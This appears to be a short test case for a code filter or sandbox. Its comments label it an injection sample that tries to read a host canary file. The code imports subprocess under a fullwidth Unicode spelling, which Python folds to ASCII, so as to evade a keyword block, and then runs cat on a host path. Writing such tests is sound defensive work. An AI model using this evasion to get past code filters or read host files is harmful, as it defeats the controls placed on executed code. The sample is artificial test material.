# family: injection
# filterfamily: unicode-comments
# tries: import the process module under its fullwidth spelling, which the compiler folds to ASCII, and cat the host /tmp canary
# source: https://peps.python.org/pep-3131/
# exfil: yes
import sys
import ｓｕｂｐｒｏｃｅｓｓ as p

p.run(["cat", sys.argv[3]])
